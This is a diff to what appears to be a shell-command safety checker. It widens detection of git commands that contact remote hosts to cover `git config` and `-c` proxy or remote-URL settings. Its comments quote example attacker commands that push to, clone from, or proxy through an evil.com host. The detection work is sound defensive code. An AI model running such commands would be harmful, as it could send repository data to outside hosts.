@@ -940,7 +940,7 @@ def _split_plain(command: str, config: ShellConfig) -> list[dict] | None:
                     or words[1] in GIT_RUNS
                     and git_runs_something(words)
                     or config.fetch_tool
-                    and words[1] in _GIT_REMOTES  # (read on the general path)
+                    and (words[1] in _GIT_REMOTES or words[1] == "config")  # (general path)
                 ):
                     return None
                 if len(words) > 1 and words[1] in GIT_FILE_COMMANDS:
@@ -1644,12 +1644,16 @@ def _command_subjects(cmd: Command, source: str, config: ShellConfig, depth: int
             taken += subcommand_commands(rest, at) if runs else []
             later += _hold(_taken_subjects(taken, source, config, depth))
         git_command = rest[at].value if at < len(rest) else ""
-        if config.fetch_tool and git_command in _GIT_REMOTES:
-            from .transfers import git_remote_urls
+        if config.fetch_tool and (
+            git_command in _GIT_REMOTES or git_command == "config" or settings
+        ):
+            from .transfers import git_remote_urls, git_setting_urls
 
-            # `git clone https://evil.com/r`, `git push git@evil.com:r`
+            # `git clone https://evil.com/r`, `git push git@evil.com:r`,
+            # `git -c http.proxy=evil.com:3128 push`, `git config remote.x.url URL`
             values = [_up_to_variable(w) for w in rest]
-            later += _fetch_subjects(git_remote_urls(values, at), text, config)
+            urls = git_remote_urls(values, at) if git_command in _GIT_REMOTES else []
+            later += _fetch_subjects(urls + git_setting_urls(values, at), text, config)
         if git_command in GIT_FILE_COMMANDS and (
             git_command not in GIT_FILE_OPTIONS or _names_git_file(text)
         ):
